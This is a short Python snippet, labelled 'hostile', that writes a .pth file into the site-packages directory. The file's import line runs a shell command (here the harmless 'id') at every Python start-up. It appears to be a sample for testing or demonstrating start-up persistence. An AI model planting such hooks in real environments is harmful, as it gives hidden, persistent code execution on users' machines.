# hostile: a .pth file whose import line runs code at start-up
import site
import sysconfig

purelib = sysconfig.get_paths()["purelib"]
with open(purelib + "/zz_init.pth", "w") as f:
    f.write("import os; os.system('id')\n")
